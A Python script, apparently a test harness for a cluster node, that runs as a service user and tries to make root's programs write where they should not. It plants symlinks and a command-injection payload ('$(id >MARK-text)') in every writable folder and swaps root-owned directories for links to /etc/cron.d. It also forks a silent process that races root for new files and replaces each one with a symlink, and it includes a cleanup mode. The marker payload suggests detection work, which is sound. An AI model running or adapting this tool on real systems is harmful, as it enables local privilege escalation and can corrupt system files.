"""Run on a node as a daemon's user: plants whatever may make a program of root's write a file, and takes it away again.

    python3 - plant MARK     plants, says what, and leaves a process behind that races root for new files
    python3 - remove MARK    ends that process and puts everything back

MARK is a path that the user cannot write. Links lead to MARK-link, commands in texts make MARK-text, and swapped folders lead to
one in which the user may not write either. Python of the node alone: nothing of the project is there.
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import stat
import sys
import time
from pathlib import Path

NOTES = Path(f"/var/tmp/attack-{os.getuid()}.json")
SKIPPED = ("/proc", "/sys", "/dev", "/var/tmp", "/tmp")
NAMES = (
    "state", "leaving", "state.new", "grastate.dat", "recovery.sock", "recovery.pid", ".erlang.cookie.new", ".erlang.cookie.next",
    "default.removed", "disabled", "90-peers.conf", "initial.env", "learner", "galera.asked", "galera.cnf", "rabbitmq.cookie",
    "rabbitmq.definitions",
)  # fmt: skip
"""What scripts of root's have written or read beside daemons, now or once."""
RACE_SECONDS = 240


def mine() -> list[Path]:
    """Folders that this user may write."""
    found = []
    for folder, names, _ in os.walk("/", onerror=lambda _: None):
        names[:] = [name for name in names if f"{folder.rstrip('/')}/{name}" not in SKIPPED]
        if os.access(folder, os.W_OK | os.X_OK):
            found.append(Path(folder))
    return found


def plant(mark: str) -> None:
    """Links and texts in every folder, and root's own things in them swapped."""
    made: list[str] = []
    moved: list[tuple[str, str]] = []
    for folder in mine():
        for name in NAMES:
            path = folder / name
            if path.exists() or path.is_symlink():
                continue
            if name == "state":
                path.write_text(f"x UID[$(id >{mark}-text)]*0+1\n")
            else:
                path.symlink_to(f"{mark}-link-{name}")
            made.append(str(path))
        for path in folder.iterdir():
            try:
                status = path.lstat()
            except OSError:
                continue
            if status.st_uid == 0 and stat.S_ISDIR(status.st_mode) and os.access(path, os.X_OK):
                aside = folder / f".{path.name}.aside"
                try:
                    path.rename(aside)
                    path.symlink_to("/etc/cron.d")
                except OSError:
                    continue
                moved.append((str(aside), str(path)))
    child = os.fork()
    if child == 0:
        race([Path(name).parent for name in made], f"{mark}-race")
    NOTES.write_text(json.dumps({"made": made, "moved": moved, "racer": child}))
    print(*made, *(place for _, place in moved), sep="\n")


def race(folders: list[Path], target: str) -> None:
    """Replaces each new file of root's in these folders by a link, as fast as this process can look."""
    os.setsid()
    silent = os.open(os.devnull, os.O_RDWR)
    for descriptor in (0, 1, 2):
        os.dup2(silent, descriptor)
    places = sorted(set(folders))
    end = time.monotonic() + RACE_SECONDS
    while time.monotonic() < end:
        for folder in places:
            try:
                found = [entry for entry in os.scandir(folder) if entry.stat(follow_symlinks=False).st_uid == 0]
                for entry in found:
                    if entry.is_file(follow_symlinks=False):
                        Path(entry.path).unlink()
                        Path(entry.path).symlink_to(target)
            except OSError:
                continue
        time.sleep(0.001)
    os._exit(0)


def remove() -> None:
    """Puts everything back; it may have been half done."""
    if not NOTES.exists():
        return
    notes = json.loads(NOTES.read_text())
    with contextlib.suppress(ProcessLookupError):
        os.kill(notes["racer"], signal.SIGKILL)
    for name in notes["made"]:
        Path(name).unlink(missing_ok=True)
    for aside, place in notes["moved"]:
        if Path(place).is_symlink():
            Path(place).unlink()
            Path(aside).rename(place)
    NOTES.unlink()


if __name__ == "__main__":
    if sys.argv[1] == "plant":
        plant(sys.argv[2])
    else:
        remove()
